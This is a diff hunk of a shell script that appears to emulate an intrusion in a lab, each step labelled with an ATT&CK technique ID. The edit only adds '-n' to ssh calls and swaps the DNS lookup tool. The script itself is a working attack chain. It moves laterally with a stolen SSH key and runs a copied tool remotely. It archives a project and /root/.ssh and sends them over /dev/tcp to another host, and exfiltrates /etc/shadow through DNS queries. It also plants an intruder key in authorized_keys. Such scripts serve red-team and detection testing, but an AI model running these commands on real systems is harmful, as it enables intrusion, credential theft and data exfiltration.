@@ -27,18 +27,18 @@ chmod 600 /tmp/.k
 # lateral movement with the stolen key (T1021.004), the tool copied over
 # and run from /tmp (T1570)
 o="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
-ssh -i /tmp/.k $o root@10.77.0.2 'id; hostname'
+ssh -n -i /tmp/.k $o root@10.77.0.2 'id; hostname'
 scp -i /tmp/.k $o /tmp/.t root@10.77.0.2:/tmp/.t
-ssh -i /tmp/.k $o root@10.77.0.2 'chmod 755 /tmp/.t && /tmp/.t'
+ssh -n -i /tmp/.k $o root@10.77.0.2 'chmod 755 /tmp/.t && /tmp/.t'
 ssh -i /tmp/.k $o root@10.77.0.2 bash -s <<'SRV'
 # collection (T1560.001), exfiltration to db (T1048) and over DNS (T1048.003)
 tar czf /tmp/.c.tgz /home/alice/project /root/.ssh
 cat /tmp/.c.tgz >/dev/tcp/10.77.0.3/8443
 for c in $(od -An -tx1 /etc/shadow | tr -d ' \n' | fold -w 50 | head -n 24); do
-	busybox nslookup "$c.q.exfil-lab.net" 10.77.0.3 >/dev/null 2>&1
+	getent ahostsv4 "$c.q.exfil-lab.net" >/dev/null
 done
 # the next hop, with the backup key found here (T1021.004 to db)
-ssh -i /root/.ssh/id_backup -o StrictHostKeyChecking=no -o LogLevel=ERROR \
+ssh -n -i /root/.ssh/id_backup -o StrictHostKeyChecking=no -o LogLevel=ERROR \
 	ops@db.lab.internal 'id; hostname; ls -la backups; cat /etc/passwd'
 # persistence (T1098.004 T1053.003 T1543.002 T1546.004)
 echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILabIntruderKeyNotARealOne0000000000000 x' >>/root/.ssh/authorized_keys
